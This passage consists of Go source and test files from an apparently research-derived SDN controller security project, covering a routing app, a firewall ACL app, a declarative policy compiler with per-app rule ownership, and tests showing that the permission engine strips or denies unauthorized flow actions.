	"sdnshield/internal/isolation"
	"sdnshield/internal/of"
	"sdnshield/internal/topology"
)

// Router is a reactive shortest-path routing app (the benign behaviour of
// §VII Scenario 2's routing app): on an IPv4 packet-in it resolves the
// destination host, computes a shortest path over its visible topology,
// installs per-hop forwarding rules and releases the buffered packet.
type Router struct {
	name string
	// FlowPriority of installed routes.
	FlowPriority uint16

	routes  atomic.Uint64
	denials atomic.Uint64
}

// NewRouter builds the app. Name defaults to "router".
func NewRouter(name string) *Router {
	if name == "" {
		name = "router"
	}
	return &Router{name: name, FlowPriority: 15}
}

// Name implements isolation.App.
func (r *Router) Name() string { return r.name }

// Routes counts installed end-to-end routes.
func (r *Router) Routes() uint64 { return r.routes.Load() }

// Denials counts permission denials absorbed.
func (r *Router) Denials() uint64 { return r.denials.Load() }

// Init implements isolation.App.
func (r *Router) Init(api isolation.API) error {
	return api.Subscribe(controller.EventPacketIn, func(ev controller.Event) {
		r.handlePacketIn(api, ev.PacketIn)
	})
}

func (r *Router) handlePacketIn(api isolation.API, pin *of.PacketIn) {
	pkt := pin.Packet
	if pkt == nil || pkt.EthType != of.EthTypeIPv4 {
		return
	}
	hosts, err := api.Hosts()
	if err != nil {
		r.denials.Add(1)
		return
	}
	var dst *topology.Host
	for i := range hosts {
		if hosts[i].IP == pkt.IPDst {
			dst = &hosts[i]
			break
		}
	}
	if dst == nil {
		return
	}
	links, err := api.Links()
	if err != nil {
		r.denials.Add(1)
		return
	}
	path := minCostPath(links, nil, pin.DPID, dst.Switch)
	if path == nil {
		return
	}
	match := of.NewMatch().
		Set(of.FieldEthType, uint64(of.EthTypeIPv4)).
		Set(of.FieldIPDst, uint64(pkt.IPDst))
	ok := true
	for i, hop := range path {
		out := hop.out
		if i == len(path)-1 {
			out = dst.Port
		}
		err := api.InsertFlow(hop.dpid, controller.FlowSpec{
			Match:    match,
			Priority: r.FlowPriority,
			Actions:  []of.Action{of.Output(out)},
		})
		if err != nil {
			r.denials.Add(1)
			ok = false
		}
	}
	if ok {
		r.routes.Add(1)
	}
	// Release the buffered packet along the freshly installed first hop.
	out := dst.Port
	if len(path) > 1 {
		out = path[0].out
	}
	if err := api.SendPacketOut(pin.DPID, pin.BufferID, pin.InPort, []of.Action{of.Output(out)}, nil); err != nil {
		r.denials.Add(1)
	}
}

// RequiredPermissions is the manifest of §VII Scenario 2.
func (r *Router) RequiredPermissions() string {
	return `# routing app manifest (§VII scenario 2)
PERM visible_topology
PERM flow_event
PERM send_pkt_out
PERM pkt_in_event
PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS
`
}
