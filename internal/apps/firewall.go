package apps

import (
	"sync/atomic"

	"sdnshield/internal/controller"
	"sdnshield/internal/isolation"
	"sdnshield/internal/of"
)

// Firewall is a port-ACL security app: it installs high-priority drop
// rules for blocked destination ports on every switch. It is the victim
// app of the Class 4 (dynamic-flow-tunneling) experiment.
type Firewall struct {
	name string
	// BlockedPorts are the TCP destination ports to drop.
	BlockedPorts []uint16
	// Priority of the ACL rules; high so routing rules cannot shadow them
	// (under SDNShield, other apps also cannot override them thanks to
	// ownership filters).
	Priority uint16

	installed atomic.Uint64
	denials   atomic.Uint64
}

// NewFirewall builds the app. Name defaults to "firewall".
func NewFirewall(name string, blocked []uint16) *Firewall {
	if name == "" {
		name = "firewall"
	}
	return &Firewall{name: name, BlockedPorts: blocked, Priority: 500}
}

// Name implements isolation.App.
func (f *Firewall) Name() string { return f.name }

// Installed counts installed ACL rules.
func (f *Firewall) Installed() uint64 { return f.installed.Load() }

// Denials counts permission denials absorbed.
func (f *Firewall) Denials() uint64 { return f.denials.Load() }

// Init implements isolation.App: install the ACL on every visible switch
// and re-install on topology changes.
func (f *Firewall) Init(api isolation.API) error {
	if err := api.Subscribe(controller.EventTopology, func(ev controller.Event) {
		if ev.TopoChange != nil && ev.TopoChange.What == "switch-added" {
			f.installOn(api, ev.TopoChange.DPID)
		}
	}); err != nil {
		// topology_event is optional: without it the firewall still
		// covers the switches present at start-up.
		f.denials.Add(1)
	}
	switches, err := api.Switches()
	if err != nil {
		return err
	}
	for _, sw := range switches {
		f.installOn(api, sw.DPID)
	}
	return nil
}

func (f *Firewall) installOn(api isolation.API, dpid of.DPID) {
	for _, port := range f.BlockedPorts {
		match := of.NewMatch().
			Set(of.FieldEthType, uint64(of.EthTypeIPv4)).
			Set(of.FieldIPProto, uint64(of.IPProtoTCP)).
			Set(of.FieldTPDst, uint64(port))
		err := api.InsertFlow(dpid, controller.FlowSpec{
			Match:    match,
			Priority: f.Priority,
			Actions:  []of.Action{of.Drop()},
		})
		if err != nil {
			f.denials.Add(1)
		} else {
			f.installed.Add(1)
		}
	}
}

// RequiredPermissions is the app's manifest.
func (f *Firewall) RequiredPermissions() string {
	return `# firewall permission manifest
PERM visible_topology
PERM topology_event
PERM insert_flow LIMITING ACTION DROP AND OWN_FLOWS
PERM delete_flow LIMITING OWN_FLOWS
`
}
