// Package hll implements the §VI-C extension the paper sketches as
// future work: SDNShield support for high-level declarative SDN policy
// languages (the Frenetic/Pyretic/NetKAT family). App policies are
// written as combinators (filters, forwarding, header rewriting,
// sequential and parallel composition); the compiler lowers the composed
// policy to OpenFlow rules while tracking, per action, which app
// contributed it — the fine-grained ownership information the paper asks
// the compiler to expose. The shielded installer then feeds each owner's
// contribution to the permission engine separately and supports
// *partial denial*: a rule survives with the denied app's actions
// stripped, rather than failing wholesale.
package hll

import (
	"fmt"
	"sort"
	"strings"

	"sdnshield/internal/of"
)

// Policy is a declarative packet-processing policy. Policies are pure
// values; Compile lowers a set of per-app policies into prioritized
// flow rules.
type Policy interface {
	fmt.Stringer
	// fragments lowers the policy into predicate→actions fragments for
	// the given owning app.
	fragments(owner string) ([]fragment, error)
}

// OwnedAction is one flow action together with the app that contributed
// it through composition.
type OwnedAction struct {
	Owner  string
	Action of.Action
}

// fragment is an intermediate compilation unit: a predicate and the
// owned actions applied to matching packets.
type fragment struct {
	pred    *of.Match
	actions []OwnedAction
}

// ---------------------------------------------------------------------------
// Atomic policies

// filterPolicy restricts processing to packets matching a predicate.
type filterPolicy struct {
	match *of.Match
}

// Filter builds a predicate policy from field constraints. Use the Fx
// helpers (FIPDst, FTPDst, …) to construct constraints.
func Filter(constraints ...FieldConstraint) Policy {
	m := of.NewMatch()
	for _, c := range constraints {
		m.SetMasked(c.Field, c.Value, c.Mask)
	}
	return &filterPolicy{match: m}
}

// FieldConstraint is one field restriction of a Filter.
type FieldConstraint struct {
	Field of.Field
	Value uint64
	Mask  uint64
}

// FIPDst constrains the destination IP (optionally by prefix).
func FIPDst(ip of.IPv4, bits int) FieldConstraint {
	return FieldConstraint{Field: of.FieldIPDst, Value: uint64(ip), Mask: uint64(of.PrefixMask(bits))}
}

// FIPSrc constrains the source IP (optionally by prefix).
func FIPSrc(ip of.IPv4, bits int) FieldConstraint {
	return FieldConstraint{Field: of.FieldIPSrc, Value: uint64(ip), Mask: uint64(of.PrefixMask(bits))}
}

// FTPDst constrains the TCP/UDP destination port.
func FTPDst(port uint16) FieldConstraint {
	return FieldConstraint{Field: of.FieldTPDst, Value: uint64(port), Mask: of.FullMask(of.FieldTPDst)}
}

// FEthType constrains the EtherType.
func FEthType(t uint16) FieldConstraint {
	return FieldConstraint{Field: of.FieldEthType, Value: uint64(t), Mask: of.FullMask(of.FieldEthType)}
}

func (p *filterPolicy) fragments(owner string) ([]fragment, error) {
	return []fragment{{pred: p.match.Clone(), actions: nil}}, nil
}

func (p *filterPolicy) String() string { return "filter(" + p.match.String() + ")" }

// fwdPolicy outputs packets on a port.
type fwdPolicy struct {
	port uint16
}

// Fwd forwards matching packets out the given port.
func Fwd(port uint16) Policy { return &fwdPolicy{port: port} }

func (p *fwdPolicy) fragments(owner string) ([]fragment, error) {
	return []fragment{{
		pred:    of.NewMatch(),
		actions: []OwnedAction{{Owner: owner, Action: of.Output(p.port)}},
	}}, nil
}

func (p *fwdPolicy) String() string { return fmt.Sprintf("fwd(%d)", p.port) }

// modPolicy rewrites a header field.
type modPolicy struct {
	field of.Field
	value uint64
}

// Mod rewrites a header field on matching packets.
func Mod(field of.Field, value uint64) Policy { return &modPolicy{field: field, value: value} }

func (p *modPolicy) fragments(owner string) ([]fragment, error) {
	return []fragment{{
		pred:    of.NewMatch(),
		actions: []OwnedAction{{Owner: owner, Action: of.SetField(p.field, p.value)}},
	}}, nil
}

func (p *modPolicy) String() string { return fmt.Sprintf("mod(%s=%d)", p.field, p.value) }

// dropPolicy discards packets.
type dropPolicy struct{}

// Drop discards matching packets.
func Drop() Policy { return dropPolicy{} }

func (dropPolicy) fragments(owner string) ([]fragment, error) {
	return []fragment{{
		pred:    of.NewMatch(),
		actions: []OwnedAction{{Owner: owner, Action: of.Drop()}},
	}}, nil
}

func (dropPolicy) String() string { return "drop" }

// ---------------------------------------------------------------------------
// Composition

// seqPolicy is sequential composition (the >> of Pyretic): filters narrow
// the predicate; action policies accumulate.
type seqPolicy struct {
	parts []Policy
}

// Seq composes policies sequentially: Seq(Filter(...), Fwd(1)) forwards
// exactly the filtered packets. Header rewrites apply before subsequent
// forwards, as in the source language; rewrites that would change how a
// *later filter* matches are rejected at compile time (the classic
// restriction of rule-based compilation).
func Seq(parts ...Policy) Policy { return &seqPolicy{parts: parts} }

func (p *seqPolicy) fragments(owner string) ([]fragment, error) {
	acc := []fragment{{pred: of.NewMatch()}}
	for _, part := range parts(p.parts) {
		partFrags, err := part.fragments(owner)
		if err != nil {
			return nil, err
		}
		var next []fragment
		for _, a := range acc {
			// A filter after a rewrite cannot be compiled to one rule.
			if hasRewrite(a.actions) && isFilter(part) {
				return nil, fmt.Errorf("hll: filter after header rewrite in %s is not compilable", p)
			}
			for _, b := range partFrags {
				merged, ok := intersect(a.pred, b.pred)
				if !ok {
					continue
				}
				actions := make([]OwnedAction, 0, len(a.actions)+len(b.actions))
				actions = append(actions, a.actions...)
				actions = append(actions, b.actions...)
				next = append(next, fragment{pred: merged, actions: actions})
			}
		}
		acc = next
	}
	return acc, nil
}

func parts(ps []Policy) []Policy { return ps }

func isFilter(p Policy) bool {
	_, ok := p.(*filterPolicy)
	return ok
}

func hasRewrite(actions []OwnedAction) bool {
	for _, a := range actions {
		if a.Action.Type == of.ActionSetField {
			return true
		}
	}
	return false
}

func (p *seqPolicy) String() string {
	names := make([]string, len(p.parts))
	for i, part := range p.parts {
		names[i] = part.String()
	}
	return "(" + strings.Join(names, " >> ") + ")"
}

// parPolicy is parallel composition (the + of Pyretic): the packet is
// processed by every operand; actions union.
type parPolicy struct {
	parts []Policy
}

// Par composes policies in parallel: every matching operand contributes
// its actions to the packet.
func Par(policies ...Policy) Policy { return &parPolicy{parts: policies} }

func (p *parPolicy) fragments(owner string) ([]fragment, error) {
	var all [][]fragment
	for _, part := range p.parts {
		frags, err := part.fragments(owner)
		if err != nil {
			return nil, err
		}
		all = append(all, frags)
	}
	return mergeParallel(all), nil
}

func (p *parPolicy) String() string {
	names := make([]string, len(p.parts))
	for i, part := range p.parts {
		names[i] = part.String()
	}
	return "(" + strings.Join(names, " + ") + ")"
}

// ---------------------------------------------------------------------------
// Compilation

// Rule is one compiled OpenFlow rule with per-action ownership — the
// information the paper asks the policy compiler to expose to SDNShield.
type Rule struct {
	Match    *of.Match
	Priority uint16
	Actions  []OwnedAction
}

// Owners returns the distinct apps contributing to the rule, sorted.
func (r Rule) Owners() []string {
	seen := make(map[string]bool)
	var out []string
	for _, a := range r.Actions {
		if !seen[a.Owner] {
			seen[a.Owner] = true
			out = append(out, a.Owner)
		}
	}
	sort.Strings(out)
	return out
}

// ActionsOf returns the plain actions contributed by one owner.
func (r Rule) ActionsOf(owner string) []of.Action {
	var out []of.Action
	for _, a := range r.Actions {
		if a.Owner == owner {
			out = append(out, a.Action)
		}
	}
	return out
}

// PlainActions flattens the owned actions, dropping explicit drops when
// forwarding actions are present (drop is the empty action list).
func (r Rule) PlainActions() []of.Action {
	var out []of.Action
	for _, a := range r.Actions {
		if a.Action.Type == of.ActionDrop {
			continue
		}
		out = append(out, a.Action)
	}
	return out
}

// Compile lowers the parallel composition of each app's policy into
// prioritized rules. Priorities are assigned so that more-specific
// intersection rules shadow their generalizations, the standard
// classifier layout.
func Compile(appPolicies map[string]Policy) ([]Rule, error) {
	apps := make([]string, 0, len(appPolicies))
	for app := range appPolicies {
		apps = append(apps, app)
	}
	sort.Strings(apps)

	var all [][]fragment
	for _, app := range apps {
		frags, err := appPolicies[app].fragments(app)
		if err != nil {
			return nil, fmt.Errorf("compile policy of %q: %w", app, err)
		}
		all = append(all, frags)
	}
	merged := mergeParallel(all)

	// More constrained predicates get higher priority so intersections
	// shadow the fragments they refine.
	rules := make([]Rule, 0, len(merged))
	for _, f := range merged {
		rules = append(rules, Rule{
			Match:    f.pred,
			Priority: uint16(100 + 10*len(f.pred.ConstrainedFields())),
			Actions:  f.actions,
		})
	}
	sort.SliceStable(rules, func(i, j int) bool { return rules[i].Priority > rules[j].Priority })
	return rules, nil
}

// mergeParallel folds fragment sets pairwise: overlapping fragments gain
// a refined intersection carrying both action sets, while the originals
// remain for their exclusive regions.
func mergeParallel(sets [][]fragment) []fragment {
	if len(sets) == 0 {
		return nil
	}
	acc := sets[0]
	for _, next := range sets[1:] {
		var out []fragment
		for _, a := range acc {
			for _, b := range next {
				if merged, ok := intersect(a.pred, b.pred); ok {
					actions := make([]OwnedAction, 0, len(a.actions)+len(b.actions))
					actions = append(actions, a.actions...)
					actions = append(actions, b.actions...)
					out = append(out, fragment{pred: merged, actions: actions})
				}
			}
		}
		out = append(out, acc...)
		out = append(out, next...)
		acc = dedupeFragments(out)
	}
	return acc
}

// dedupeFragments keeps the first fragment per (predicate, actions) pair.
func dedupeFragments(frags []fragment) []fragment {
	seen := make(map[string]bool, len(frags))
	out := frags[:0]
	for _, f := range frags {
		key := f.pred.Key() + "|" + actionsKey(f.actions)
		if seen[key] {
			continue
		}
		seen[key] = true
		out = append(out, f)
	}
	return out
}

func actionsKey(actions []OwnedAction) string {
	parts := make([]string, len(actions))
	for i, a := range actions {
		parts[i] = a.Owner + ":" + a.Action.String()
	}
	return strings.Join(parts, ",")
}

// intersect merges two predicates; ok is false when they are disjoint.
func intersect(a, b *of.Match) (*of.Match, bool) {
	if !a.Overlaps(b) {
		return nil, false
	}
	m := a.Clone()
	for _, f := range b.ConstrainedFields() {
		bv, bm := b.Get(f)
		av, am := m.Get(f)
		m.SetMasked(f, (av&am)|(bv&bm), am|bm)
	}
	return m, true
}
