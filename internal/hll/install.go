package hll

import (
	"sdnshield/internal/core"
	"sdnshield/internal/of"
	"sdnshield/internal/permengine"
)

// InstallFunc installs one rule on behalf of a (possibly joint) owner.
// internal/controller.Kernel.InsertFlow adapts directly.
type InstallFunc func(owner string, dpid of.DPID, match *of.Match, priority uint16, actions []of.Action) error

// InstallReport summarizes a shielded installation of compiled rules.
type InstallReport struct {
	// Installed counts rules installed intact.
	Installed int
	// Partial counts rules installed with some owners' actions stripped
	// (the §VI-C partial-denial extension).
	Partial int
	// Dropped counts rules denied entirely (no permitted actions left).
	Dropped int
	// Denied lists the per-owner denials encountered.
	Denied []OwnerDenial
}

// OwnerDenial records one owner's rejected contribution.
type OwnerDenial struct {
	Owner string
	Rule  Rule
	Err   error
}

// InstallShielded feeds each compiled rule to the permission engine once
// per contributing owner — the ownership splitting of §VI-C. Owners whose
// contribution is denied have their actions stripped (partial denial);
// rules with no surviving actions are dropped.
func InstallShielded(engine *permengine.Engine, dpid of.DPID, rules []Rule, install InstallFunc) (*InstallReport, error) {
	report := &InstallReport{}
	for _, rule := range rules {
		var surviving []OwnedAction
		deniedHere := 0
		for _, owner := range rule.Owners() {
			actions := rule.ActionsOf(owner)
			call := &core.Call{
				App:          owner,
				Token:        core.TokenInsertFlow,
				DPID:         dpid,
				HasDPID:      true,
				Match:        rule.Match,
				Actions:      actions,
				Priority:     rule.Priority,
				HasPriority:  true,
				HasFlowOwner: true, // compiled rules own their slice of flow space
			}
			if err := engine.Check(call); err != nil {
				deniedHere++
				report.Denied = append(report.Denied, OwnerDenial{Owner: owner, Rule: rule, Err: err})
				continue
			}
			for _, a := range actions {
				surviving = append(surviving, OwnedAction{Owner: owner, Action: a})
			}
		}
		switch {
		case len(surviving) == 0:
			report.Dropped++
			continue
		case deniedHere > 0:
			report.Partial++
		default:
			report.Installed++
		}
		stripped := Rule{Match: rule.Match, Priority: rule.Priority, Actions: surviving}
		owner := jointOwner(stripped.Owners())
		if err := install(owner, dpid, stripped.Match, stripped.Priority, stripped.PlainActions()); err != nil {
			return report, err
		}
	}
	return report, nil
}

// jointOwner names a rule contributed by several apps.
func jointOwner(owners []string) string {
	if len(owners) == 1 {
		return owners[0]
	}
	out := ""
	for i, o := range owners {
		if i > 0 {
			out += "+"
		}
		out += o
	}
	return out
}
