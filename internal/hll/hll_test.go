package hll

import (
	"strings"
	"testing"

	"sdnshield/internal/of"
	"sdnshield/internal/permengine"
	"sdnshield/internal/permlang"
)

func ip(a, b, c, d byte) of.IPv4 { return of.IPv4FromOctets(a, b, c, d) }

// evalPolicies is the semantic reference: apply every app's policy to the
// packet directly and collect the owned actions (parallel composition
// semantics).
func evalPolicies(t *testing.T, policies map[string]Policy, pkt *of.Packet, inPort uint16) map[string]int {
	t.Helper()
	out := make(map[string]int)
	for app, p := range policies {
		frags, err := p.fragments(app)
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range frags {
			if f.pred.MatchesPacket(pkt, inPort) {
				for _, a := range f.actions {
					out[a.Owner+":"+a.Action.String()]++
				}
			}
		}
	}
	return out
}

// evalRules applies the compiled classifier: highest-priority matching
// rule wins.
func evalRules(rules []Rule, pkt *of.Packet, inPort uint16) (Rule, bool) {
	for _, r := range rules { // rules are sorted by priority descending
		if r.Match.MatchesPacket(pkt, inPort) {
			return r, true
		}
	}
	return Rule{}, false
}

func TestCompileParallelComposition(t *testing.T) {
	// The §VI-C scenario: a forwarding app and a monitoring app process
	// the same traffic in parallel.
	policies := map[string]Policy{
		"router":  Seq(Filter(FIPDst(ip(10, 0, 0, 2), 32)), Fwd(3)),
		"monitor": Seq(Filter(FTPDst(80)), Fwd(of.PortController)),
	}
	rules, err := Compile(policies)
	if err != nil {
		t.Fatal(err)
	}

	// A packet matching both policies must hit a rule carrying both
	// owners' actions.
	both := of.NewTCPPacket(of.MAC{1}, of.MAC{2}, ip(10, 0, 0, 1), ip(10, 0, 0, 2), 99, 80, 0)
	rule, ok := evalRules(rules, both, 1)
	if !ok {
		t.Fatal("no rule for overlapping packet")
	}
	owners := rule.Owners()
	if len(owners) != 2 || owners[0] != "monitor" || owners[1] != "router" {
		t.Fatalf("owners = %v", owners)
	}
	if len(rule.ActionsOf("router")) != 1 || len(rule.ActionsOf("monitor")) != 1 {
		t.Fatalf("per-owner actions wrong: %+v", rule.Actions)
	}

	// A packet matching only the router's predicate hits a router-only
	// rule.
	routerOnly := of.NewTCPPacket(of.MAC{1}, of.MAC{2}, ip(10, 0, 0, 1), ip(10, 0, 0, 2), 99, 443, 0)
	rule, ok = evalRules(rules, routerOnly, 1)
	if !ok {
		t.Fatal("no rule for router-only packet")
	}
	if got := rule.Owners(); len(got) != 1 || got[0] != "router" {
		t.Fatalf("owners = %v", got)
	}
}

func TestCompiledClassifierMatchesSemantics(t *testing.T) {
	// The winning rule's action set must equal the union of actions the
	// source policies would apply, across a grid of probe packets.
	policies := map[string]Policy{
		"fw":  Seq(Filter(FEthType(of.EthTypeIPv4), FTPDst(22)), Drop()),
		"rt":  Seq(Filter(FIPDst(ip(10, 1, 0, 0), 16)), Fwd(2)),
		"mon": Seq(Filter(FIPSrc(ip(10, 2, 0, 0), 16)), Fwd(of.PortController)),
	}
	rules, err := Compile(policies)
	if err != nil {
		t.Fatal(err)
	}

	dsts := []of.IPv4{ip(10, 1, 5, 5), ip(192, 168, 0, 1)}
	srcs := []of.IPv4{ip(10, 2, 1, 1), ip(172, 16, 0, 1)}
	ports := []uint16{22, 80}
	for _, src := range srcs {
		for _, dst := range dsts {
			for _, port := range ports {
				pkt := of.NewTCPPacket(of.MAC{1}, of.MAC{2}, src, dst, 1000, port, 0)
				want := evalPolicies(t, policies, pkt, 1)
				rule, ok := evalRules(rules, pkt, 1)
				got := make(map[string]int)
				if ok {
					for _, a := range rule.Actions {
						got[a.Owner+":"+a.Action.String()]++
					}
				}
				if len(want) == 0 && len(got) == 0 {
					continue
				}
				if len(want) != len(got) {
					t.Fatalf("pkt %v: semantic %v vs compiled %v (rule %v)", pkt, want, got, rule)
				}
				for k := range want {
					if got[k] == 0 {
						t.Fatalf("pkt %v: missing action %s (got %v)", pkt, k, got)
					}
				}
			}
		}
	}
}

func TestSeqRejectsFilterAfterRewrite(t *testing.T) {
	p := Seq(Mod(of.FieldTPDst, 80), Filter(FTPDst(80)), Fwd(1))
	if _, err := p.fragments("x"); err == nil {
		t.Fatal("filter after rewrite must be rejected")
	}
	if _, err := Compile(map[string]Policy{"x": p}); err == nil {
		t.Fatal("Compile must surface the error")
	}
	// Rewrite then forward is fine.
	ok := Seq(Filter(FTPDst(22)), Mod(of.FieldTPDst, 80), Fwd(1))
	if _, err := ok.fragments("x"); err != nil {
		t.Fatalf("rewrite before forward rejected: %v", err)
	}
}

func TestDisjointSeqCompilesToNothing(t *testing.T) {
	p := Seq(Filter(FTPDst(22)), Filter(FTPDst(80)), Fwd(1))
	frags, err := p.fragments("x")
	if err != nil {
		t.Fatal(err)
	}
	if len(frags) != 0 {
		t.Fatalf("contradictory filters should compile to no fragments: %v", frags)
	}
}

func TestPolicyStrings(t *testing.T) {
	p := Par(Seq(Filter(FTPDst(80)), Fwd(1)), Drop())
	s := p.String()
	for _, want := range []string{"filter", "fwd(1)", "drop", ">>", "+"} {
		if !strings.Contains(s, want) {
			t.Errorf("String() = %q missing %q", s, want)
		}
	}
	if Mod(of.FieldTPDst, 8).String() != "mod(TCP_DST=8)" {
		t.Errorf("mod rendering = %q", Mod(of.FieldTPDst, 8).String())
	}
}

func TestInstallShieldedPartialDenial(t *testing.T) {
	// The router may forward; the monitor may NOT send to the controller
	// (no grant at all). The joint rule must survive with the monitor's
	// contribution stripped — §VI-C's partial denial.
	engine := permengine.New(nil)
	engine.SetPermissions("router", permlang.MustParse(
		"PERM insert_flow LIMITING ACTION FORWARD").Set())
	// monitor intentionally has no permissions.

	policies := map[string]Policy{
		"router":  Seq(Filter(FIPDst(ip(10, 0, 0, 2), 32)), Fwd(3)),
		"monitor": Seq(Filter(FTPDst(80)), Fwd(of.PortController)),
	}
	rules, err := Compile(policies)
	if err != nil {
		t.Fatal(err)
	}

	type installed struct {
		owner   string
		actions []of.Action
	}
	var got []installed
	report, err := InstallShielded(engine, 1, rules, func(owner string, dpid of.DPID, match *of.Match, priority uint16, actions []of.Action) error {
		got = append(got, installed{owner: owner, actions: actions})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if report.Partial == 0 {
		t.Errorf("expected partial installs, report = %+v", report)
	}
	if report.Dropped == 0 {
		t.Errorf("monitor-only rules should be dropped entirely, report = %+v", report)
	}
	if len(report.Denied) == 0 {
		t.Error("denials should be reported")
	}
	for _, d := range report.Denied {
		if d.Owner != "monitor" {
			t.Errorf("unexpected denial for %q: %v", d.Owner, d.Err)
		}
	}
	for _, inst := range got {
		if strings.Contains(inst.owner, "monitor") {
			t.Errorf("monitor's contribution leaked into %q", inst.owner)
		}
		for _, a := range inst.actions {
			if a.Type == of.ActionOutput && a.Port == of.PortController {
				t.Errorf("denied controller-send installed: %v", inst.actions)
			}
		}
	}
}

func TestInstallShieldedAllAllowed(t *testing.T) {
	engine := permengine.New(nil)
	engine.SetPermissions("router", permlang.MustParse("PERM insert_flow").Set())
	engine.SetPermissions("monitor", permlang.MustParse("PERM insert_flow").Set())

	policies := map[string]Policy{
		"router":  Seq(Filter(FIPDst(ip(10, 0, 0, 2), 32)), Fwd(3)),
		"monitor": Seq(Filter(FTPDst(80)), Fwd(of.PortController)),
	}
	rules, err := Compile(policies)
	if err != nil {
		t.Fatal(err)
	}
	jointSeen := false
	report, err := InstallShielded(engine, 1, rules, func(owner string, dpid of.DPID, match *of.Match, priority uint16, actions []of.Action) error {
		if owner == "monitor+router" {
			jointSeen = true
			if len(actions) != 2 {
				t.Errorf("joint rule actions = %v", actions)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if report.Partial != 0 || report.Dropped != 0 || len(report.Denied) != 0 {
		t.Errorf("clean install expected, report = %+v", report)
	}
	if report.Installed != len(rules) {
		t.Errorf("installed %d of %d", report.Installed, len(rules))
	}
	if !jointSeen {
		t.Error("joint-ownership rule never installed")
	}
}

func TestInstallShieldedFilterRefinement(t *testing.T) {
	// Ownership splitting also honours fine-grained filters: the router
	// may only touch 10.0.0.0/8, so its contribution to a 192.168 rule is
	// stripped while the monitor's stands.
	engine := permengine.New(nil)
	engine.SetPermissions("router", permlang.MustParse(
		"PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0").Set())
	engine.SetPermissions("monitor", permlang.MustParse("PERM insert_flow").Set())

	policies := map[string]Policy{
		"router":  Seq(Filter(FIPDst(ip(192, 168, 1, 1), 32)), Fwd(2)),
		"monitor": Seq(Filter(FIPDst(ip(192, 168, 1, 1), 32)), Fwd(of.PortController)),
	}
	rules, err := Compile(policies)
	if err != nil {
		t.Fatal(err)
	}
	report, err := InstallShielded(engine, 1, rules, func(owner string, dpid of.DPID, match *of.Match, priority uint16, actions []of.Action) error {
		if owner != "monitor" {
			t.Errorf("only the monitor's slice should install, got %q", owner)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(report.Denied) == 0 {
		t.Error("router's out-of-scope contribution should be denied")
	}
}

func TestJointOwnerFormatting(t *testing.T) {
	if jointOwner([]string{"a"}) != "a" || jointOwner([]string{"a", "b"}) != "a+b" {
		t.Error("jointOwner wrong")
	}
}
