package hll

import (
	"testing"
	"time"

	"sdnshield/internal/controller"
	"sdnshield/internal/netsim"
	"sdnshield/internal/of"
	"sdnshield/internal/permengine"
	"sdnshield/internal/permlang"
)

// TestCompiledRulesDriveTheDataPlane installs a compiled declarative
// classifier through the real controller kernel and verifies the data
// plane honours it — including the partial denial of an unauthorized
// contributor.
func TestCompiledRulesDriveTheDataPlane(t *testing.T) {
	b, err := netsim.Linear(2)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Net.Stop()
	k := controller.New(b.Topo, nil)
	defer k.Stop()
	for _, sw := range b.Net.Switches() {
		ctrlSide, swSide := of.Pipe()
		if err := sw.Start(swSide); err != nil {
			t.Fatal(err)
		}
		if _, err := k.AcceptSwitch(ctrlSide); err != nil {
			t.Fatal(err)
		}
	}

	h1, h2 := b.Hosts[0], b.Hosts[1]

	// router: forward h2-bound traffic toward s2 (port 3 on s1).
	// blocker: drop ALL traffic — but it is not authorized for drops.
	policies := map[string]Policy{
		"router":  Seq(Filter(FIPDst(h2.IP(), 32)), Fwd(3)),
		"blocker": Drop(),
	}
	rules, err := Compile(policies)
	if err != nil {
		t.Fatal(err)
	}

	engine := permengine.New(k)
	engine.SetPermissions("router", permlang.MustParse(
		"PERM insert_flow LIMITING ACTION FORWARD").Set())
	engine.SetPermissions("blocker", permlang.MustParse(
		"PERM insert_flow LIMITING ACTION FORWARD").Set()) // drops denied

	report, err := InstallShielded(engine, 1, rules,
		func(owner string, dpid of.DPID, match *of.Match, priority uint16, actions []of.Action) error {
			return k.InsertFlow(owner, dpid, controller.FlowSpec{
				Match: match, Priority: priority, Actions: actions,
			})
		})
	if err != nil {
		t.Fatal(err)
	}
	if len(report.Denied) == 0 {
		t.Fatal("blocker's drop should be denied")
	}
	// s2 just delivers.
	if err := k.InsertFlow("router", 2, controller.FlowSpec{
		Match: of.NewMatch().Set(of.FieldIPDst, uint64(h2.IP())), Priority: 10,
		Actions: []of.Action{of.Output(1)},
	}); err != nil {
		t.Fatal(err)
	}
	if err := k.Barrier(1); err != nil {
		t.Fatal(err)
	}
	if err := k.Barrier(2); err != nil {
		t.Fatal(err)
	}

	// The router's forwarding works; the blocker's (denied) drop did not
	// take the network down.
	h1.SendTCP(h2, 6000, 80, of.TCPFlagSYN, []byte("via hll"))
	if _, ok := h2.WaitFor(func(p *of.Packet) bool { return p.TPDst == 80 }, 2*time.Second); !ok {
		t.Fatal("compiled rule did not forward")
	}
}
