package controller

import (
	"errors"
	"sync"
	"testing"
	"time"

	"sdnshield/internal/faults"
	"sdnshield/internal/netsim"
	"sdnshield/internal/of"
)

// acceptFake registers a hand-driven switch with the kernel: it answers
// the handshake and then goes silent, leaving the test in full control
// of (non-)replies. The returned conn is the switch side.
func acceptFake(t *testing.T, k *Kernel, dpid of.DPID) of.Conn {
	t.Helper()
	ctrl, sw := of.Pipe()
	go func() {
		for {
			msg, err := sw.Recv()
			if err != nil {
				return
			}
			if m, ok := msg.(*of.FeaturesRequest); ok {
				_ = sw.Send(&of.FeaturesReply{Header: of.Header{Xid: m.Xid}, DPID: dpid})
				return
			}
		}
	}()
	if _, err := k.AcceptSwitch(ctrl); err != nil {
		t.Fatal(err)
	}
	return sw
}

func waitFor(t *testing.T, d time.Duration, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(d)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(time.Millisecond)
	}
}

// TestHandshakeTimesOutOnSilentPeer: a connection whose peer never sends
// anything must fail AcceptSwitch after the configured timeout instead of
// blocking forever on Recv.
func TestHandshakeTimesOutOnSilentPeer(t *testing.T) {
	k := New(nil, nil, KernelConfig{RequestTimeout: 50 * time.Millisecond})
	defer k.Stop()
